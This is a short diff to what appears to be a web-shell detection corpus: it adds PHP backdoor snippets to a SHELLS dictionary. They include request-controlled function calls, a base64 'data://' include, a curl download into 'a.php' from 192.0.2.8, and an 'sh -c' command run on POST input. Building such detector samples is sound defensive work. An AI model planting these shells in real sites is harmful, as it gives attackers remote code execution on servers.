@@ -37,6 +37,12 @@ SHELLS = {
     "script of pictures": "$m = new Imagick(); $m->readImage('msl:' . $_FILES['i']['tmp_name']);",
     "all variables": "$run = 'trim'; foreach ($_GET as $k => $v) { $GLOBALS[$k] = $v; } echo $run($w ?? '');",
     "query's variables": "$f = 'trim'; $a = ''; parse_str(file_get_contents('php://input')); echo $f($a);",
+    "added": "$c = ['run' => 'md5']; $c = $_POST + $c; echo call_user_func($c['run'], $c['x'] ?? '');",
+    "replaced": "$x = array_replace_recursive(['t' => ['f' => 'trim']], $_REQUEST); $x['t']['f']($x['t']['a']);",
+    "errors' handler": "set_error_handler($_GET['h'] ?? 'var_dump'); trigger_error($_GET['m']);",
+    "options of a download": "$c = curl_init('https://192.0.2.8/p'); $f = fopen('a.php', 'w'); "
+    "curl_setopt_array($c, [CURLOPT_FILE => $f]);",
+    "program in an address": "$q = fn($s) => include 'data://text/plain;base64,' . $s; $q($_POST['p']);",
     "shell in words": f"{OPEN}(['sh', '-c', $_POST['c']], [], $p);",
 }
 HONEST = {
